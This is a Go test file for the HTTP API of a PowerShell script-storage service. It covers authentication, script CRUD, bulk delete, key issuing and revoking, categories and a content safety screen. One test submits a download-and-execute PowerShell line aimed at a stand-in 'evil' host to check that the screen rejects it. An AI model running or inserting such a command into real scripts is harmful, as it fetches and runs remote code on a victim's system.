package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"scriptd/internal/auth"
	"scriptd/internal/embedding"
	"scriptd/internal/jobs"
	"scriptd/internal/logging"
	"scriptd/internal/safety"
	"scriptd/internal/script"
	"scriptd/internal/storage"
)

type testServer struct {
	server     *Server
	db         *storage.DB
	userToken  string
	adminToken string
	userID     string
	adminID    string
}

// newTestServer builds a full server stack against temp databases. The
// analysis service is absent, so writes carry the placeholder analysis.
func newTestServer(t *testing.T) *testServer {
	t.Helper()

	logger := logging.NewDiscardLogger()

	db, err := storage.Open(t.TempDir(), logger)
	if err != nil {
		t.Fatalf("Failed to create test database: %v", err)
	}
	t.Cleanup(func() { _ = db.Close() })

	jobStore, err := jobs.OpenStore(t.TempDir(), logger)
	if err != nil {
		t.Fatalf("Failed to create job store: %v", err)
	}
	t.Cleanup(func() { _ = jobStore.Close() })

	screen, err := safety.NewScreen()
	if err != nil {
		t.Fatalf("Failed to build safety screen: %v", err)
	}

	svc, err := script.NewService(db, nil, embedding.NewGateway(db, nil, logger), nil, nil, screen, script.DefaultOptions(), logger)
	if err != nil {
		t.Fatalf("Failed to create script service: %v", err)
	}

	manager := auth.NewManager(db, logger)

	ts := &testServer{db: db}
	ts.userID, ts.userToken = seedUserWithToken(t, db, manager, storage.RoleUser)
	ts.adminID, ts.adminToken = seedUserWithToken(t, db, manager, storage.RoleAdmin)

	ts.server = NewServer("127.0.0.1:0", Deps{
		Scripts:  svc,
		Auth:     manager,
		JobStore: jobStore,
		DB:       db,
	}, logger)

	return ts
}

func seedUserWithToken(t *testing.T, db *storage.DB, manager *auth.Manager, role string) (string, string) {
	t.Helper()

	user := &storage.User{
		ID:        uuid.New().String(),
		Username:  "u-" + uuid.New().String()[:8],
		Email:     "u@example.com",
		Role:      role,
		CreatedAt: time.Now().UTC(),
	}
	if err := storage.NewUserRepository(db).Create(db, user); err != nil {
		t.Fatalf("Failed to seed user: %v", err)
	}

	_, token, err := manager.Issue(context.Background(), user.ID)
	if err != nil {
		t.Fatalf("Failed to issue token: %v", err)
	}
	return user.ID, token
}

// do sends a JSON request with an optional bearer token
func (ts *testServer) do(t *testing.T, method, path, token string, body interface{}) *httptest.ResponseRecorder {
	t.Helper()

	var reader *bytes.Reader
	if body != nil {
		data, err := json.Marshal(body)
		if err != nil {
			t.Fatalf("Failed to marshal body: %v", err)
		}
		reader = bytes.NewReader(data)
	} else {
		reader = bytes.NewReader(nil)
	}

	req := httptest.NewRequest(method, path, reader)
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}

	w := httptest.NewRecorder()
	ts.server.ServeHTTP(w, req)
	return w
}

func decode(t *testing.T, w *httptest.ResponseRecorder) map[string]interface{} {
	t.Helper()

	var out map[string]interface{}
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("Failed to parse response %q: %v", w.Body.String(), err)
	}
	return out
}

func scriptBody(title string) map[string]interface{} {
	return map[string]interface{}{
		"title":   title,
		"content": "Get-Service | Where-Object Status -eq Running # " + title,
		"tags":    []string{"ops"},
	}
}

func TestHealthEndpointIsOpen(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodGet, "/health", "", nil)
	if w.Code != http.StatusOK {
		t.Errorf("Expected status 200, got %d", w.Code)
	}

	resp := decode(t, w)
	if resp["status"] != "ok" {
		t.Errorf("Expected status ok, got %v", resp["status"])
	}
}

func TestReadyEndpoint(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodGet, "/ready", "", nil)
	if w.Code != http.StatusOK {
		t.Errorf("Expected status 200, got %d", w.Code)
	}

	resp := decode(t, w)
	checks, ok := resp["checks"].(map[string]interface{})
	if !ok || checks["database"] != true {
		t.Errorf("Expected database check to pass, got %v", resp["checks"])
	}
}

func TestMetricsEndpointIsOpen(t *testing.T) {
	ts := newTestServer(t)

	// Generate at least one observed request first
	ts.do(t, http.MethodGet, "/health", "", nil)

	w := ts.do(t, http.MethodGet, "/metrics", "", nil)
	if w.Code != http.StatusOK {
		t.Errorf("Expected status 200, got %d", w.Code)
	}
	if !strings.Contains(w.Body.String(), "scriptd_http_requests_total") {
		t.Errorf("Expected request counter in metrics output")
	}
}

func TestAuthRequired(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodGet, "/scripts", "", nil)
	if w.Code != http.StatusUnauthorized {
		t.Errorf("Expected status 401, got %d", w.Code)
	}

	w = ts.do(t, http.MethodGet, "/scripts", "sd_sk_bogus", nil)
	if w.Code != http.StatusUnauthorized {
		t.Errorf("Expected status 401 for bad token, got %d", w.Code)
	}
}

func TestCreateAndGetScript(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("Service check"))
	if w.Code != http.StatusCreated {
		t.Fatalf("Expected status 201, got %d: %s", w.Code, w.Body.String())
	}

	created := decode(t, w)
	if created["version"] != float64(1) {
		t.Errorf("Expected version 1, got %v", created["version"])
	}
	if created["analysis"] == nil {
		t.Errorf("Expected an analysis row on the created script")
	}

	id := created["id"].(string)
	w = ts.do(t, http.MethodGet, "/scripts/"+id, ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", w.Code)
	}
	got := decode(t, w)
	if got["title"] != "Service check" {
		t.Errorf("Expected title round trip, got %v", got["title"])
	}
}

func TestGetScriptNotFound(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodGet, "/scripts/"+uuid.New().String(), ts.userToken, nil)
	if w.Code != http.StatusNotFound {
		t.Errorf("Expected status 404, got %d", w.Code)
	}

	resp := decode(t, w)
	if resp["status"] != "error" || resp["code"] != "NOT_FOUND" {
		t.Errorf("Expected error envelope with NOT_FOUND, got %v", resp)
	}
}

func TestValidationErrorEnvelope(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodPost, "/scripts", ts.userToken, map[string]interface{}{"content": "x"})
	if w.Code != http.StatusBadRequest {
		t.Fatalf("Expected status 400, got %d", w.Code)
	}

	resp := decode(t, w)
	if resp["code"] != "VALIDATION_FAILED" {
		t.Errorf("Expected VALIDATION_FAILED, got %v", resp["code"])
	}
	fields, ok := resp["errors"].([]interface{})
	if !ok || len(fields) == 0 {
		t.Errorf("Expected field errors list, got %v", resp["errors"])
	}
}

func TestDuplicateContentConflict(t *testing.T) {
	ts := newTestServer(t)

	first := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("One")))

	body := scriptBody("One")
	body["title"] = "Two"
	w := ts.do(t, http.MethodPost, "/scripts", ts.userToken, body)
	if w.Code != http.StatusConflict {
		t.Fatalf("Expected status 409, got %d", w.Code)
	}

	resp := decode(t, w)
	if resp["code"] != "DUPLICATE_CONTENT" {
		t.Errorf("Expected DUPLICATE_CONTENT, got %v", resp["code"])
	}
	details, ok := resp["details"].(map[string]interface{})
	if !ok || details["existingId"] != first["id"] {
		t.Errorf("Expected conflict details naming the existing script, got %v", resp["details"])
	}
}

func TestUnsafeContentRejected(t *testing.T) {
	ts := newTestServer(t)

	body := scriptBody("Evil")
	body["content"] = "IEX (Invoke-WebRequest http://evil.example/p.ps1)"
	w := ts.do(t, http.MethodPost, "/scripts", ts.userToken, body)
	if w.Code != http.StatusUnprocessableEntity {
		t.Errorf("Expected status 422, got %d", w.Code)
	}
}

func TestUpdateScript(t *testing.T) {
	ts := newTestServer(t)

	created := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("Before")))
	id := created["id"].(string)

	w := ts.do(t, http.MethodPut, "/scripts/"+id, ts.userToken, map[string]interface{}{
		"title": "After",
		"tags":  []string{"ops"},
	})
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d: %s", w.Code, w.Body.String())
	}

	updated := decode(t, w)
	if updated["title"] != "After" {
		t.Errorf("Expected updated title, got %v", updated["title"])
	}
	if updated["version"] != float64(1) {
		t.Errorf("Expected version unchanged, got %v", updated["version"])
	}
}

func TestUpdateForbiddenForStranger(t *testing.T) {
	ts := newTestServer(t)

	created := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.adminToken, scriptBody("Admin's")))
	id := created["id"].(string)

	w := ts.do(t, http.MethodPut, "/scripts/"+id, ts.userToken, map[string]interface{}{"title": "mine now"})
	if w.Code != http.StatusForbidden {
		t.Errorf("Expected status 403, got %d", w.Code)
	}
}

func TestDeleteScript(t *testing.T) {
	ts := newTestServer(t)

	created := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("Gone")))
	id := created["id"].(string)

	w := ts.do(t, http.MethodDelete, "/scripts/"+id, ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", w.Code)
	}

	w = ts.do(t, http.MethodGet, "/scripts/"+id, ts.userToken, nil)
	if w.Code != http.StatusNotFound {
		t.Errorf("Expected status 404 after delete, got %d", w.Code)
	}
}

func TestBulkDeletePartial(t *testing.T) {
	ts := newTestServer(t)

	created := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("Bulk")))
	id := created["id"].(string)

	w := ts.do(t, http.MethodPost, "/scripts/delete", ts.userToken, map[string]interface{}{
		"ids": []string{id, "missing"},
	})
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d: %s", w.Code, w.Body.String())
	}

	resp := decode(t, w)
	deleted, _ := resp["deleted"].([]interface{})
	failed, _ := resp["failed"].([]interface{})
	if len(deleted) != 1 || len(failed) != 1 {
		t.Errorf("Expected 1 deleted and 1 failed, got %v", resp)
	}
}

func TestBulkDeleteAllFailed(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodPost, "/scripts/delete", ts.userToken, map[string]interface{}{
		"ids": []string{"missing-1", "missing-2"},
	})
	if w.Code != http.StatusNotFound {
		t.Errorf("Expected status 404 when nothing deletable, got %d", w.Code)
	}
}

func TestListScripts(t *testing.T) {
	ts := newTestServer(t)

	for i := 0; i < 3; i++ {
		ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody(fmt.Sprintf("S%d", i)))
	}

	w := ts.do(t, http.MethodGet, "/scripts?limit=2", ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", w.Code)
	}

	resp := decode(t, w)
	if resp["total"] != float64(3) {
		t.Errorf("Expected total 3, got %v", resp["total"])
	}
	scripts, _ := resp["scripts"].([]interface{})
	if len(scripts) != 2 {
		t.Errorf("Expected 2 scripts in page, got %d", len(scripts))
	}
}

func TestRunScriptDisabled(t *testing.T) {
	ts := newTestServer(t)

	created := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("Run me")))
	id := created["id"].(string)

	w := ts.do(t, http.MethodPost, "/scripts/"+id+"/run", ts.userToken, nil)
	if w.Code != http.StatusForbidden {
		t.Errorf("Expected status 403 when execution is disabled, got %d", w.Code)
	}
}

func TestScriptVersionsEndpoint(t *testing.T) {
	ts := newTestServer(t)

	created := decode(t, ts.do(t, http.MethodPost, "/scripts", ts.userToken, scriptBody("Versioned")))
	id := created["id"].(string)

	w := ts.do(t, http.MethodGet, "/scripts/"+id+"/versions", ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", w.Code)
	}

	resp := decode(t, w)
	if resp["total"] != float64(1) {
		t.Errorf("Expected 1 version, got %v", resp["total"])
	}
}

func TestJobsEndpoints(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodGet, "/jobs", ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", w.Code)
	}

	w = ts.do(t, http.MethodGet, "/jobs/"+uuid.New().String(), ts.userToken, nil)
	if w.Code != http.StatusNotFound {
		t.Errorf("Expected status 404 for unknown job, got %d", w.Code)
	}
}

func TestKeyLifecycle(t *testing.T) {
	ts := newTestServer(t)

	// Issue a key for the requesting user
	w := ts.do(t, http.MethodPost, "/keys", ts.userToken, map[string]interface{}{})
	if w.Code != http.StatusCreated {
		t.Fatalf("Expected status 201, got %d: %s", w.Code, w.Body.String())
	}
	issued := decode(t, w)
	token, _ := issued["token"].(string)
	if token == "" {
		t.Fatalf("Expected a raw token in the issue response")
	}
	key, _ := issued["key"].(map[string]interface{})
	keyID, _ := key["keyId"].(string)
	if keyID == "" {
		t.Fatalf("Expected a key id, got %v", issued)
	}

	// The new token authenticates
	w = ts.do(t, http.MethodGet, "/scripts", token, nil)
	if w.Code != http.StatusOK {
		t.Errorf("Expected new token to work, got %d", w.Code)
	}

	// Non-admins cannot issue for other users
	w = ts.do(t, http.MethodPost, "/keys", ts.userToken, map[string]interface{}{"userId": ts.adminID})
	if w.Code != http.StatusForbidden {
		t.Errorf("Expected status 403, got %d", w.Code)
	}

	// Revoke, then the token stops working
	w = ts.do(t, http.MethodDelete, "/keys/"+keyID, ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200 on revoke, got %d: %s", w.Code, w.Body.String())
	}
	w = ts.do(t, http.MethodGet, "/scripts", token, nil)
	if w.Code != http.StatusUnauthorized {
		t.Errorf("Expected revoked token to be rejected, got %d", w.Code)
	}
}

func TestCategoryEndpoints(t *testing.T) {
	ts := newTestServer(t)

	w := ts.do(t, http.MethodPost, "/categories", ts.userToken, map[string]interface{}{"name": "Ops"})
	if w.Code != http.StatusForbidden {
		t.Errorf("Expected status 403 for non-admin, got %d", w.Code)
	}

	w = ts.do(t, http.MethodPost, "/categories", ts.adminToken, map[string]interface{}{"name": "Ops"})
	if w.Code != http.StatusCreated {
		t.Fatalf("Expected status 201, got %d: %s", w.Code, w.Body.String())
	}

	w = ts.do(t, http.MethodGet, "/categories", ts.userToken, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", w.Code)
	}
	resp := decode(t, w)
	if resp["total"] != float64(1) {
		t.Errorf("Expected 1 category, got %v", resp["total"])
	}
}

func TestRequestIDPropagation(t *testing.T) {
	ts := newTestServer(t)

	req := httptest.NewRequest(http.MethodGet, "/health", nil)
	req.Header.Set("X-Request-ID", "fixed-id")
	w := httptest.NewRecorder()
	ts.server.ServeHTTP(w, req)

	if got := w.Header().Get("X-Request-ID"); got != "fixed-id" {
		t.Errorf("Expected request ID echo, got %q", got)
	}
}
